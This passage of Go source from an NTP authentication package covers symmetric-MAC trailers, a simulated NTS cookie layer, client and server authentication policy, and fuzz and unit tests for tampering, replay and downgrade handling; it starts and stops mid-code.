		return fmt.Errorf("ntpauth: key %d has an empty secret", k.ID)
	}
	if int(uint16(k.ID)) == k.Algo.TrailerSize() {
		return fmt.Errorf("ntpauth: key ID %d is wire-ambiguous for %s trailers", k.ID, k.Algo)
	}
	if _, dup := t.byID[k.ID]; dup {
		return fmt.Errorf("ntpauth: duplicate key ID %d", k.ID)
	}
	t.byID[k.ID] = k
	return nil
}

// Lookup returns the key for id.
func (t *KeyTable) Lookup(id uint32) (Key, bool) {
	if t == nil {
		return Key{}, false
	}
	k, ok := t.byID[id]
	return k, ok
}

// Len returns the number of keys.
func (t *KeyTable) Len() int {
	if t == nil {
		return 0
	}
	return len(t.byID)
}
