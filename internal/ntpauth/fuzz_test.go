package ntpauth

import (
	"bytes"
	"encoding/binary"
	"sync"
	"testing"
	"time"

	"chronosntp/internal/ntpwire"
)

// fuzzAuthEnv is the shared fixture for FuzzAuthExtensions: one key per
// algorithm, an NTS server, and a require-auth policy over both. Built
// lazily once per process; the fuzz callback runs sequentially within a
// process so the non-concurrency-safe MACer state is fine.
type fuzzAuthEnv struct {
	table  *KeyTable
	mac    *MACer
	srv    *NTSServer
	policy *ServerAuth
}

var fuzzAuth = sync.OnceValue(func() *fuzzAuthEnv {
	table, err := NewKeyTable(
		Key{ID: 1, Algo: AlgoMD5, Secret: []byte("fuzz-md5")},
		Key{ID: 2, Algo: AlgoSHA1, Secret: []byte("fuzz-sha1")},
		Key{ID: 3, Algo: AlgoSHA256, Secret: []byte("fuzz-sha256")},
	)
	if err != nil {
		panic(err)
	}
	srv, err := NewNTSServer(bytes.Repeat([]byte{0x42}, 16))
	if err != nil {
		panic(err)
	}
	return &fuzzAuthEnv{
		table:  table,
		mac:    NewMACer(table),
		srv:    srv,
		policy: &ServerAuth{Keys: table, NTS: srv, Require: true},
	}
})

// FuzzAuthExtensions hammers the authenticated-datagram surface —
// ntpwire.SplitAuth/ExtIter framing plus the ServerAuth classification
// that sits directly on the wirenet read loop — with arbitrary bytes.
// Invariants: no panics anywhere; SplitAuth's regions tile the
// datagram exactly; extension iteration stays in bounds; and
// verify-iff-valid — whenever classification reports a valid MAC, an
// independent recomputation of the digest must agree, so forged or
// bit-flipped trailers can never classify as authenticated.
func FuzzAuthExtensions(f *testing.F) {
	env := fuzzAuth()
	t1 := time.Date(2020, 6, 1, 0, 0, 0, 0, time.UTC)
	base := ntpwire.NewClientPacket(t1).Encode()

	// Seeds: bare header; one genuine MAC per algorithm; a genuine NTS
	// request; a lone uid extension; a truncated MAC; framing soup.
	f.Add(append([]byte(nil), base...))
	for id := uint32(1); id <= 3; id++ {
		sealed, _ := env.mac.AppendMAC(append([]byte(nil), base...), id, base)
		f.Add(sealed)
	}
	if sess, err := Establish(env.srv, 99, 2); err == nil {
		if sealed, ok := sess.SealRequest(append([]byte(nil), base...)); ok {
			f.Add(sealed)
		}
	}
	f.Add(ntpwire.AppendExtension(append([]byte(nil), base...), ntpwire.ExtUniqueIdentifier, make([]byte, 16)))
	f.Add(append(append([]byte(nil), base...), make([]byte, 19)...))
	f.Add(append(append([]byte(nil), base...), 0x01, 0x04, 0x00, 0x03))
	f.Add([]byte{})

	f.Fuzz(func(t *testing.T, data []byte) {
		ext, mac, ok := ntpwire.SplitAuth(data)
		if ok {
			if ntpwire.PacketSize+len(ext)+len(mac) != len(data) {
				t.Fatalf("regions do not tile: %d+%d+%d != %d",
					ntpwire.PacketSize, len(ext), len(mac), len(data))
			}
			// Iteration must terminate and stay in bounds (a panic here
			// fails the fuzz run).
			it := ntpwire.IterExtensions(ext)
			for {
				_, body, more := it.Next()
				if !more {
					break
				}
				_ = body
			}
		} else if len(data) >= ntpwire.PacketSize {
			// Malformed post-header region: it must not be empty.
			if len(data) == ntpwire.PacketSize {
				t.Fatal("SplitAuth rejected a bare header")
			}
		}

		var ra RequestAuth
		env.policy.Authenticate(data, &ra)
		if ra.Kind == AuthMAC {
			// verify-iff-valid: recompute the digest independently.
			k, found := env.table.Lookup(ra.KeyID)
			if !found {
				t.Fatalf("authenticated under unknown key %d", ra.KeyID)
			}
			trailer := data[len(data)-k.Algo.TrailerSize():]
			if got := binary.BigEndian.Uint32(trailer[:4]); got != ra.KeyID {
				t.Fatalf("trailer key ID %d != classified %d", got, ra.KeyID)
			}
			fresh := NewMACer(env.table)
			if _, ok := fresh.Verify(data[:len(data)-len(trailer)], trailer); !ok {
				t.Fatal("classified MAC does not re-verify")
			}
		}
		if ra.Authenticated() && ra.Bad {
			t.Fatal("authenticated and bad at once")
		}

		// The client-side verifier must be panic-free on the same bytes.
		client := &ClientAuth{Key: Key{ID: 3, Algo: AlgoSHA256, Secret: []byte("fuzz-sha256")}, Require: true}
		authed, acc := client.VerifyResponse(data)
		if authed && !acc {
			t.Fatal("authenticated reply not acceptable")
		}
	})
}
