package ntpauth

import (
	"testing"
	"time"

	"chronosntp/internal/ntpwire"
)

func testKey(id uint32, algo Algorithm) Key {
	return Key{ID: id, Algo: algo, Secret: []byte("chronos-test-secret")}
}

func encodedRequest(t *testing.T) []byte {
	t.Helper()
	now := time.Date(2020, 6, 1, 12, 0, 0, 0, time.UTC)
	p := ntpwire.NewClientPacket(now)
	return p.AppendEncode(make([]byte, 0, 256))
}

func TestMACRoundTripAllAlgorithms(t *testing.T) {
	for _, algo := range []Algorithm{AlgoMD5, AlgoSHA1, AlgoSHA256} {
		table, err := NewKeyTable(testKey(7, algo))
		if err != nil {
			t.Fatalf("%v: NewKeyTable: %v", algo, err)
		}
		m := NewMACer(table)
		msg := encodedRequest(t)
		out, ok := m.AppendMAC(msg, 7, msg)
		if !ok {
			t.Fatalf("%v: AppendMAC refused known key", algo)
		}
		if got, want := len(out), ntpwire.PacketSize+algo.TrailerSize(); got != want {
			t.Fatalf("%v: trailer length %d, want %d", algo, got, want)
		}
		ext, mac, ok := ntpwire.SplitAuth(out)
		if !ok || len(ext) != 0 || len(mac) != algo.TrailerSize() {
			t.Fatalf("%v: SplitAuth ext=%d mac=%d ok=%v", algo, len(ext), len(mac), ok)
		}
		keyID, ok := m.Verify(out[:len(out)-len(mac)], mac)
		if !ok || keyID != 7 {
			t.Fatalf("%v: Verify keyID=%d ok=%v", algo, keyID, ok)
		}
		// Any single flipped bit in header or trailer must fail verification.
		for _, i := range []int{0, 20, len(out) - 1} {
			tampered := append([]byte(nil), out...)
			tampered[i] ^= 1
			if _, ok := m.Verify(tampered[:len(tampered)-len(mac)], tampered[len(tampered)-len(mac):]); ok {
				t.Fatalf("%v: tampered byte %d still verifies", algo, i)
			}
		}
	}
}

func TestMACVerifyRejectsUnknownKeyAndWrongAlgo(t *testing.T) {
	table, err := NewKeyTable(testKey(1, AlgoSHA256))
	if err != nil {
		t.Fatal(err)
	}
	m := NewMACer(table)
	msg := encodedRequest(t)
	out, _ := m.AppendMAC(msg, 1, msg)
	mac := out[ntpwire.PacketSize:]
	// Unknown key ID.
	bad := append([]byte(nil), mac...)
	bad[3] = 99
	if _, ok := m.Verify(msg, bad); ok {
		t.Fatal("unknown key ID verified")
	}
	// Right key, trailer length of a different algorithm.
	if _, ok := m.Verify(msg, mac[:20]); ok {
		t.Fatal("truncated trailer verified")
	}
}

func TestKeyTableRejectsAmbiguousAndInvalidKeys(t *testing.T) {
	cases := []Key{
		{ID: 1, Algo: AlgoNone, Secret: []byte("x")},       // no algorithm
		{ID: 1, Algo: AlgoMD5},                             // empty secret
		{ID: 20, Algo: AlgoMD5, Secret: []byte("x")},       // low 16 bits == md5 trailer len
		{ID: 0x70018, Algo: AlgoSHA1, Secret: []byte("x")}, // low 16 bits == sha1 trailer len
	}
	for _, k := range cases {
		if _, err := NewKeyTable(k); err == nil {
			t.Errorf("key %+v accepted, want error", k)
		}
	}
	if _, err := NewKeyTable(testKey(1, AlgoMD5), testKey(1, AlgoSHA1)); err == nil {
		t.Error("duplicate key ID accepted")
	}
}

func TestSplitAuthPrefersExtensionParse(t *testing.T) {
	// A region that parses entirely as extension fields is not a MAC,
	// even when its total length matches a MAC trailer length.
	b := encodedRequest(t)
	b = ntpwire.AppendExtension(b, ntpwire.ExtUniqueIdentifier, make([]byte, 16))
	ext, mac, ok := ntpwire.SplitAuth(b)
	if !ok || len(mac) != 0 || len(ext) != 20 {
		t.Fatalf("uid-only packet: ext=%d mac=%d ok=%v", len(ext), len(mac), ok)
	}
}

func TestNTSRoundTrip(t *testing.T) {
	srv, err := NewNTSServer(make([]byte, 32))
	if err != nil {
		t.Fatal(err)
	}
	sess, err := Establish(srv, 42, 3)
	if err != nil {
		t.Fatal(err)
	}
	if sess.Cookies() != 3 {
		t.Fatalf("cookies after establish: %d", sess.Cookies())
	}

	req := encodedRequest(t)
	sealed, ok := sess.SealRequest(req)
	if !ok {
		t.Fatal("SealRequest failed with cookies available")
	}
	if sess.Cookies() != 2 {
		t.Fatalf("cookies after seal: %d", sess.Cookies())
	}

	var st NTSRequest
	if !srv.VerifyRequest(sealed, &st) {
		t.Fatal("server rejected a freshly sealed request")
	}

	// Server reply: echo origin, seal with s2c.
	now := time.Date(2020, 6, 1, 12, 0, 1, 0, time.UTC)
	var reqPkt, respPkt ntpwire.Packet
	if err := ntpwire.DecodeInto(&reqPkt, sealed); err != nil {
		t.Fatal(err)
	}
	respPkt = ntpwire.Packet{
		Version: ntpwire.Version, Mode: ntpwire.ModeServer, Stratum: 2,
		OriginTime:   reqPkt.TransmitTime,
		ReceiveTime:  ntpwire.TimestampFromTime(now),
		TransmitTime: ntpwire.TimestampFromTime(now),
	}
	resp := respPkt.AppendEncode(make([]byte, 0, 256))
	resp = srv.SealResponse(resp, &st)

	if !sess.VerifyResponse(resp) {
		t.Fatal("client rejected a genuine response")
	}
	if sess.Cookies() != 3 {
		t.Fatalf("cookie pool not replenished: %d", sess.Cookies())
	}

	// Replaying the same response must fail (uid no longer pending).
	if sess.VerifyResponse(resp) {
		t.Fatal("replayed response accepted")
	}

	// Tampered response must fail.
	sealed2, _ := sess.SealRequest(encodedRequest(t))
	var st2 NTSRequest
	if !srv.VerifyRequest(sealed2, &st2) {
		t.Fatal("second request rejected")
	}
	resp2 := respPkt.AppendEncode(make([]byte, 0, 256))
	resp2 = srv.SealResponse(resp2, &st2)
	resp2[10] ^= 1
	if sess.VerifyResponse(resp2) {
		t.Fatal("tampered response accepted")
	}
}

func TestNTSRequestReplayIsServerAcceptedButClientBound(t *testing.T) {
	// A replayed *request* still opens at the server (cookies are not
	// one-time in RFC 8915 either) — the defense is that the client only
	// accepts a response matching its current unique identifier.
	srv, _ := NewNTSServer(make([]byte, 16))
	sess, _ := Establish(srv, 7, 2)
	sealed, _ := sess.SealRequest(encodedRequest(t))
	var st NTSRequest
	if !srv.VerifyRequest(sealed, &st) {
		t.Fatal("first verify failed")
	}
	var st2 NTSRequest
	if !srv.VerifyRequest(sealed, &st2) {
		t.Fatal("replay rejected by server (model expects accept)")
	}
	// Client moves on to a new request; a response to the replay is dead.
	if _, ok := sess.SealRequest(encodedRequest(t)); !ok {
		t.Fatal("second seal failed")
	}
	respPkt := ntpwire.Packet{Version: 4, Mode: ntpwire.ModeServer, Stratum: 2}
	resp := respPkt.AppendEncode(make([]byte, 0, 256))
	resp = srv.SealResponse(resp, &st2)
	if sess.VerifyResponse(resp) {
		t.Fatal("response bound to stale uid accepted")
	}
}

func TestNTSCookieExhaustion(t *testing.T) {
	srv, _ := NewNTSServer(make([]byte, 16))
	sess, _ := Establish(srv, 9, 1)
	if _, ok := sess.SealRequest(encodedRequest(t)); !ok {
		t.Fatal("first seal failed")
	}
	if out, ok := sess.SealRequest(encodedRequest(t)); ok || len(out) != ntpwire.PacketSize {
		t.Fatalf("seal with empty pool: ok=%v len=%d", ok, len(out))
	}
}

func TestKoDPacketAndStateMachine(t *testing.T) {
	now := time.Date(2020, 6, 1, 0, 0, 0, 0, time.UTC)
	req := ntpwire.NewClientPacket(now)
	var kod ntpwire.Packet
	FillKoD(&kod, KissDENY, req, now)
	if !IsKoD(&kod) || Code(&kod) != KissDENY {
		t.Fatalf("FillKoD: IsKoD=%v code=%v", IsKoD(&kod), Code(&kod))
	}
	if kod.OriginTime != req.TransmitTime {
		t.Fatal("KoD does not echo origin")
	}
	// A KoD must NOT pass the normal reply predicate (stratum 0).
	if ntpwire.ValidServerResponse(&kod, req.TransmitTime) {
		t.Fatal("KoD passes ValidServerResponse")
	}
	if KissDENY.String() != "DENY" || KissRATE.String() != "RATE" || KissRSTR.String() != "RSTR" {
		t.Fatal("kiss code strings wrong")
	}
	if ParseKissCode("RSTR") != KissRSTR || ParseKissCode("nope") != 0 {
		t.Fatal("ParseKissCode wrong")
	}

	var s AssocState
	s.OnKoD(KissRATE, false, false)
	if s.Dead || s.RateStrikes != 1 {
		t.Fatalf("after RATE: %+v", s)
	}
	s.OnKoD(KissDENY, false, true) // unauthenticated kiss on a require-auth assoc: ignored
	if s.Dead {
		t.Fatal("require-auth association believed an unauthenticated DENY")
	}
	s.OnKoD(KissDENY, true, true)
	if !s.Dead || s.Usable() {
		t.Fatal("authenticated DENY did not demobilize")
	}
}

func TestServerAuthPolicy(t *testing.T) {
	table, _ := NewKeyTable(testKey(5, AlgoSHA256))
	srvNTS, _ := NewNTSServer(make([]byte, 16))
	auth := &ServerAuth{Keys: table, NTS: srvNTS, Require: true}

	var ra RequestAuth
	// Bare request under Require: DENY.
	bare := encodedRequest(t)
	auth.Authenticate(bare, &ra)
	if ra.Authenticated() || auth.KissFor(&ra) != KissDENY {
		t.Fatalf("bare request: %+v kiss=%v", ra, auth.KissFor(&ra))
	}

	// MAC request: verified, served, reply sealed with same key.
	client := &ClientAuth{Key: testKey(5, AlgoSHA256), Require: true}
	macReq := client.SealRequest(encodedRequest(t))
	auth.Authenticate(macReq, &ra)
	if !ra.Authenticated() || ra.Kind != AuthMAC || ra.KeyID != 5 || auth.KissFor(&ra) != 0 {
		t.Fatalf("mac request: %+v", ra)
	}
	reply := ntpwire.Packet{Version: 4, Mode: ntpwire.ModeServer, Stratum: 2}
	out := reply.AppendEncode(make([]byte, 0, 256))
	out = auth.SealResponse(out, &ra)
	if authed, acc := client.VerifyResponse(out); !authed || !acc {
		t.Fatalf("client rejects MAC reply: authed=%v acc=%v", authed, acc)
	}

	// Stripped reply (attacker removed the MAC): not acceptable under Require.
	if authed, acc := client.VerifyResponse(out[:ntpwire.PacketSize]); authed || acc {
		t.Fatalf("stripped reply: authed=%v acc=%v", authed, acc)
	}
	// Same stripped reply on a non-require association: acceptable downgrade.
	lax := &ClientAuth{Key: testKey(5, AlgoSHA256)}
	if authed, acc := lax.VerifyResponse(out[:ntpwire.PacketSize]); authed || !acc {
		t.Fatalf("lax stripped reply: authed=%v acc=%v", authed, acc)
	}
	// Corrupted MAC: never acceptable, even without Require.
	bad := append([]byte(nil), out...)
	bad[len(bad)-1] ^= 1
	if _, acc := lax.VerifyResponse(bad); acc {
		t.Fatal("corrupted MAC accepted")
	}

	// Deny policy kisses everyone, even authenticated clients.
	denySrv := &ServerAuth{Keys: table, Deny: KissRATE}
	denySrv.Authenticate(macReq, &ra)
	if denySrv.KissFor(&ra) != KissRATE {
		t.Fatal("Deny policy did not kiss")
	}

	// Nil policy is a no-op.
	var nilAuth *ServerAuth
	nilAuth.Authenticate(macReq, &ra)
	if ra.Kind != AuthNone || nilAuth.KissFor(&ra) != 0 {
		t.Fatal("nil policy classified something")
	}
	if got := nilAuth.SealResponse(out[:ntpwire.PacketSize], &ra); len(got) != ntpwire.PacketSize {
		t.Fatal("nil policy sealed something")
	}
}

func TestClientAuthNTSMode(t *testing.T) {
	srvNTS, _ := NewNTSServer(make([]byte, 16))
	sess, _ := Establish(srvNTS, 11, 4)
	client := &ClientAuth{NTS: sess, Require: true}
	auth := &ServerAuth{NTS: srvNTS, Require: true}

	req := client.SealRequest(encodedRequest(t))
	var ra RequestAuth
	auth.Authenticate(req, &ra)
	if !ra.Authenticated() || ra.Kind != AuthNTS {
		t.Fatalf("nts request: %+v", ra)
	}
	reply := ntpwire.Packet{Version: 4, Mode: ntpwire.ModeServer, Stratum: 2}
	out := reply.AppendEncode(make([]byte, 0, 512))
	out = auth.SealResponse(out, &ra)
	if authed, acc := client.VerifyResponse(out); !authed || !acc {
		t.Fatalf("nts reply rejected: authed=%v acc=%v", authed, acc)
	}
	if sess.Cookies() != 4 {
		t.Fatalf("cookie pool after round trip: %d", sess.Cookies())
	}
}

func TestParseAlgorithmRoundTrip(t *testing.T) {
	for _, a := range []Algorithm{AlgoNone, AlgoMD5, AlgoSHA1, AlgoSHA256} {
		got, err := ParseAlgorithm(a.String())
		if err != nil || got != a {
			t.Errorf("ParseAlgorithm(%q) = %v, %v", a.String(), got, err)
		}
	}
	if _, err := ParseAlgorithm("rot13"); err == nil {
		t.Error("ParseAlgorithm accepted garbage")
	}
}

func TestMACVerifyZeroAlloc(t *testing.T) {
	table, _ := NewKeyTable(testKey(5, AlgoSHA256))
	m := NewMACer(table)
	msg := encodedRequest(t)
	out, _ := m.AppendMAC(msg, 5, msg)
	macLen := AlgoSHA256.TrailerSize()
	// Warm the lazily-built digest state before measuring.
	m.Verify(out[:len(out)-macLen], out[len(out)-macLen:])
	avg := testing.AllocsPerRun(200, func() {
		if _, ok := m.Verify(out[:len(out)-macLen], out[len(out)-macLen:]); !ok {
			t.Fatal("verify failed")
		}
	})
	if avg != 0 {
		t.Fatalf("MAC verify allocates %.1f/op, want 0", avg)
	}
	scratch := make([]byte, 0, 256)
	avg = testing.AllocsPerRun(200, func() {
		scratch = scratch[:0]
		scratch = append(scratch, msg...)
		var ok bool
		scratch, ok = m.AppendMAC(scratch, 5, scratch)
		if !ok {
			t.Fatal("append failed")
		}
	})
	if avg != 0 {
		t.Fatalf("MAC append allocates %.1f/op, want 0", avg)
	}
}
