package ntpauth

import (
	"crypto/md5"
	"crypto/sha1"
	"crypto/sha256"
	"crypto/subtle"
	"encoding/binary"
	"hash"

	"chronosntp/internal/ntpwire"
)

// MACer computes and verifies symmetric-MAC trailers. It owns one
// reusable digest instance per algorithm plus a fixed scratch buffer,
// so steady-state Append/Verify perform zero heap allocations — the
// property the wirenet read loop's alloc ceiling depends on. A MACer is
// NOT safe for concurrent use; each read loop (and each client
// association pool) owns its own.
//
// The MAC is the classic NTP construction digest(secret ‖ message) —
// not HMAC — matching ntpd/chrony symmetric keys. Verification is
// constant-time in the digest comparison.
type MACer struct {
	table  *KeyTable
	hashes [AlgoSHA256 + 1]hash.Hash // lazily built, indexed by Algorithm
	sum    [MaxDigestSize]byte
}

// NewMACer builds a MACer over table (which may be shared; the table is
// read-only after construction).
func NewMACer(table *KeyTable) *MACer { return &MACer{table: table} }

func (m *MACer) hashFor(a Algorithm) hash.Hash {
	if h := m.hashes[a]; h != nil {
		return h
	}
	var h hash.Hash
	switch a {
	case AlgoMD5:
		h = md5.New()
	case AlgoSHA1:
		h = sha1.New()
	case AlgoSHA256:
		h = sha256.New()
	}
	m.hashes[a] = h
	return h
}

// digest computes digest(secret ‖ msg) into m.sum and returns the
// filled prefix.
func (m *MACer) digest(k Key, msg []byte) []byte {
	h := m.hashFor(k.Algo)
	h.Reset()
	h.Write(k.Secret)
	h.Write(msg)
	return h.Sum(m.sum[:0])
}

// AppendMAC appends the trailer (key ID, digest(secret ‖ msg)) for key
// keyID onto dst and returns the extended slice; ok is false when the
// key is unknown. msg and dst may be the same slice — the digest is
// computed before dst grows.
func (m *MACer) AppendMAC(dst []byte, keyID uint32, msg []byte) ([]byte, bool) {
	k, ok := m.table.Lookup(keyID)
	if !ok {
		return dst, false
	}
	d := m.digest(k, msg)
	var id [ntpwire.MACKeyIDSize]byte
	binary.BigEndian.PutUint32(id[:], keyID)
	dst = append(dst, id[:]...)
	dst = append(dst, d...)
	return dst, true
}

// Verify checks trailer (key ID + digest, as split by
// ntpwire.SplitAuth) against msg. ok is true iff the trailer length is
// legal, the key is known, the trailer length matches the key's
// algorithm, and the digest matches in constant time.
func (m *MACer) Verify(msg, trailer []byte) (keyID uint32, ok bool) {
	if !ntpwire.IsMACTrailerLen(len(trailer)) {
		return 0, false
	}
	keyID = binary.BigEndian.Uint32(trailer[:ntpwire.MACKeyIDSize])
	k, found := m.table.Lookup(keyID)
	if !found || k.Algo.TrailerSize() != len(trailer) {
		return keyID, false
	}
	d := m.digest(k, msg)
	return keyID, subtle.ConstantTimeCompare(d, trailer[ntpwire.MACKeyIDSize:]) == 1
}
