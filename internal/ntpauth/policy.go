package ntpauth

import "chronosntp/internal/ntpwire"

// Policy glue: ServerAuth is what a responder (sim or real-socket)
// holds, ClientAuth is what one client association holds. Both are
// nil-safe — a nil policy is "no authentication" and leaves packets
// untouched, which is how every pre-auth code path keeps emitting
// byte-identical traffic.

// AuthKind classifies how a packet was authenticated.
type AuthKind uint8

// Authentication kinds.
const (
	AuthNone AuthKind = iota
	AuthMAC
	AuthNTS
)

// String implements fmt.Stringer.
func (k AuthKind) String() string {
	switch k {
	case AuthNone:
		return "none"
	case AuthMAC:
		return "mac"
	case AuthNTS:
		return "nts"
	default:
		return "AuthKind(?)"
	}
}

// RequestAuth is the classification of one inbound request datagram.
type RequestAuth struct {
	Kind  AuthKind
	KeyID uint32 // MAC key that verified (Kind == AuthMAC)
	Bad   bool   // authentication material present but invalid
	NTS   NTSRequest
}

// Authenticated reports whether the request carried valid credentials.
func (ra *RequestAuth) Authenticated() bool { return ra.Kind != AuthNone && !ra.Bad }

// ServerAuth is a responder's authentication policy: the symmetric keys
// it accepts, its NTS master key, and whether unauthenticated clients
// are served or kissed off. Deny models an access-denying (or
// attacker-impersonated) server that answers every request with a KoD.
// Not safe for concurrent use; each read loop owns one.
type ServerAuth struct {
	Keys    *KeyTable  // symmetric keys accepted (nil: MAC requests are Bad)
	NTS     *NTSServer // NTS cookie key (nil: NTS requests are Bad)
	Require bool       // true: unauthenticated requests get a DENY kiss
	Deny    KissCode   // nonzero: every request gets this kiss

	mac *MACer
}

func (a *ServerAuth) macer() *MACer {
	if a.mac == nil {
		a.mac = NewMACer(a.Keys)
	}
	return a.mac
}

// Authenticate classifies raw (a full request datagram) into ra,
// overwriting it. A nil policy classifies everything as AuthNone.
func (a *ServerAuth) Authenticate(raw []byte, ra *RequestAuth) {
	*ra = RequestAuth{}
	if a == nil {
		return
	}
	ext, mac, ok := ntpwire.SplitAuth(raw)
	if !ok {
		ra.Bad = true
		return
	}
	if len(mac) > 0 {
		if a.Keys == nil {
			ra.Bad = true
			return
		}
		keyID, ok := a.macer().Verify(raw[:len(raw)-len(mac)], mac)
		if ok {
			ra.Kind = AuthMAC
			ra.KeyID = keyID
		} else {
			ra.Bad = true
		}
		return
	}
	if len(ext) > 0 {
		if a.NTS == nil || !a.NTS.VerifyRequest(raw, &ra.NTS) {
			ra.Bad = true
			return
		}
		ra.Kind = AuthNTS
	}
}

// KissFor returns the kiss code policy demands for a request classified
// as ra, or 0 when the request should be served normally.
func (a *ServerAuth) KissFor(ra *RequestAuth) KissCode {
	if a == nil {
		return 0
	}
	if a.Deny != 0 {
		return a.Deny
	}
	if a.Require && !ra.Authenticated() {
		return KissDENY
	}
	return 0
}

// SealResponse mirrors the request's authentication onto the encoded
// reply in out: a MAC-authenticated request gets a MAC trailer under
// the same key, an NTS request gets the NTS response extensions. The
// MAC path is allocation-free given spare capacity in out.
func (a *ServerAuth) SealResponse(out []byte, ra *RequestAuth) []byte {
	if a == nil {
		return out
	}
	switch ra.Kind {
	case AuthMAC:
		out, _ = a.macer().AppendMAC(out, ra.KeyID, out)
	case AuthNTS:
		out = a.NTS.SealResponse(out, &ra.NTS)
	}
	return out
}

// ClientAuth is one client association's authentication policy: either
// a symmetric key or an NTS session (or neither), plus whether
// unauthenticated replies are acceptable. Not safe for concurrent use.
type ClientAuth struct {
	Key     Key         // Algo != AlgoNone: symmetric-MAC mode
	NTS     *NTSSession // non-nil: NTS mode (takes precedence)
	Require bool        // true: drop replies that are not authenticated

	mac    *MACer
	macErr bool
}

// Enabled reports whether any authentication is configured.
func (c *ClientAuth) Enabled() bool {
	return c != nil && (c.NTS != nil || c.Key.Algo != AlgoNone)
}

// RequiresAuth reports whether unauthenticated replies (and kisses)
// must be ignored on this association.
func (c *ClientAuth) RequiresAuth() bool { return c != nil && c.Require }

func (c *ClientAuth) macer() *MACer {
	if c.mac == nil && !c.macErr {
		table, err := NewKeyTable(c.Key)
		if err != nil {
			c.macErr = true
			return nil
		}
		c.mac = NewMACer(table)
	}
	return c.mac
}

// SealRequest appends this association's credentials to the encoded
// request in dst. An NTS session with an empty cookie pool (or an
// invalid key) sends the request bare — the association then starves
// under Require, which is the honest failure mode.
func (c *ClientAuth) SealRequest(dst []byte) []byte {
	if c == nil {
		return dst
	}
	if c.NTS != nil {
		out, ok := c.NTS.SealRequest(dst)
		if ok {
			return out
		}
		return dst
	}
	if c.Key.Algo != AlgoNone {
		if m := c.macer(); m != nil {
			dst, _ = m.AppendMAC(dst, c.Key.ID, dst)
		}
	}
	return dst
}

// VerifyResponse checks a reply datagram against this association's
// policy. authenticated reports whether the reply carried valid
// credentials; acceptable reports whether the client may use it:
// authenticated replies always are, bare replies only without Require,
// and replies with invalid credentials never are (present-but-wrong
// auth is active tampering, not a downgrade).
func (c *ClientAuth) VerifyResponse(raw []byte) (authenticated, acceptable bool) {
	if !c.Enabled() {
		return false, true
	}
	ext, mac, ok := ntpwire.SplitAuth(raw)
	if !ok {
		return false, false
	}
	if len(ext) == 0 && len(mac) == 0 {
		return false, !c.Require
	}
	if c.NTS != nil {
		ok := c.NTS.VerifyResponse(raw)
		return ok, ok
	}
	if len(mac) == 0 {
		return false, false
	}
	m := c.macer()
	if m == nil {
		return false, false
	}
	keyID, ok := m.Verify(raw[:len(raw)-len(mac)], mac)
	if !ok || keyID != c.Key.ID {
		return false, false
	}
	return true, true
}
