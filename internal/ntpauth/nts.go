package ntpauth

import (
	"crypto/aes"
	"crypto/cipher"
	"crypto/sha256"
	"encoding/binary"
	"fmt"

	"chronosntp/internal/ntpwire"
)

// This file models RFC 8915 (Network Time Security) at the fidelity
// the simulations need: opaque AEAD cookies minted and opened by the
// server, per-request unique identifiers, authenticator extension
// fields covering the packet as associated data, and a fresh cookie
// returned encrypted inside every response. Two deliberate
// simplifications, both documented here so nobody mistakes this for a
// deployable NTS stack: key establishment is a seeded derivation
// standing in for the NTS-KE TLS exporter, and the AEAD is AES-GCM
// with counter nonces standing in for AES-SIV-CMAC-256. Neither changes
// the properties the experiments measure (per-request cookie
// uniqueness, unforgeability without the master key, response binding
// to the request's unique identifier).

const (
	// ntsKeySize is the AES-128 session-key size (c2s and s2c).
	ntsKeySize = 16
	// ntsNonceSize is the GCM nonce size.
	ntsNonceSize = 12
	// ntsTagSize is the GCM tag size.
	ntsTagSize = 16
	// CookieSize is the opaque cookie length on the wire:
	// nonce ‖ AEAD(c2s ‖ s2c).
	CookieSize = ntsNonceSize + 2*ntsKeySize + ntsTagSize
	// UIDSize is the unique-identifier length.
	UIDSize = 16
)

func newAESGCM(key []byte) (cipher.AEAD, error) {
	block, err := aes.NewCipher(key)
	if err != nil {
		return nil, err
	}
	return cipher.NewGCM(block)
}

// NTSServer is the server half of the NTS layer: it holds the master
// cookie key under which session keys travel, opaque to clients. Not
// safe for concurrent use (the nonce counter and scratch are shared);
// each responder owns one.
type NTSServer struct {
	aead  cipher.AEAD
	ctr   uint64
	nonce [ntsNonceSize]byte
}

// NewNTSServer builds a server from a 16/24/32-byte master key.
func NewNTSServer(master []byte) (*NTSServer, error) {
	aead, err := newAESGCM(master)
	if err != nil {
		return nil, fmt.Errorf("ntpauth: bad NTS master key: %w", err)
	}
	return &NTSServer{aead: aead}, nil
}

func (s *NTSServer) nextNonce() []byte {
	s.ctr++
	binary.BigEndian.PutUint64(s.nonce[ntsNonceSize-8:], s.ctr)
	return s.nonce[:]
}

// MintCookie appends one fresh opaque cookie carrying (c2s, s2c) onto
// dst. Every cookie is unique: the nonce is a strictly increasing
// counter.
func (s *NTSServer) MintCookie(dst []byte, c2s, s2c *[ntsKeySize]byte) []byte {
	nonce := s.nextNonce()
	dst = append(dst, nonce...)
	var keys [2 * ntsKeySize]byte
	copy(keys[:ntsKeySize], c2s[:])
	copy(keys[ntsKeySize:], s2c[:])
	return s.aead.Seal(dst, nonce, keys[:], nil)
}

// OpenCookie decrypts a cookie minted by this server's master key into
// c2s and s2c.
func (s *NTSServer) OpenCookie(cookie []byte, c2s, s2c *[ntsKeySize]byte) bool {
	if len(cookie) != CookieSize {
		return false
	}
	var keys [2*ntsKeySize + ntsTagSize]byte
	pt, err := s.aead.Open(keys[:0], cookie[:ntsNonceSize], cookie[ntsNonceSize:], nil)
	if err != nil || len(pt) != 2*ntsKeySize {
		return false
	}
	copy(c2s[:], pt[:ntsKeySize])
	copy(s2c[:], pt[ntsKeySize:])
	return true
}

// NTSRequest is the server-side result of authenticating one request:
// what SealResponse needs to answer it.
type NTSRequest struct {
	UID [UIDSize]byte
	C2S [ntsKeySize]byte
	S2C [ntsKeySize]byte
}

// parseAuthenticator unpacks an authenticator body
// (nonceLen ‖ ctLen ‖ nonce ‖ ciphertext) produced by appendAuthenticator.
func parseAuthenticator(body []byte) (nonce, ct []byte, ok bool) {
	if len(body) < 4 {
		return nil, nil, false
	}
	nl := int(binary.BigEndian.Uint16(body[0:2]))
	cl := int(binary.BigEndian.Uint16(body[2:4]))
	if nl != ntsNonceSize || 4+nl+cl > len(body) {
		return nil, nil, false
	}
	return body[4 : 4+nl], body[4+nl : 4+nl+cl], true
}

// appendAuthenticator appends an NTS authenticator extension field to
// dst: AEAD-seal plaintext with ad = everything already in dst (the
// packet so far), using the supplied nonce.
func appendAuthenticator(dst []byte, aead cipher.AEAD, nonce, plaintext []byte) []byte {
	ad := dst
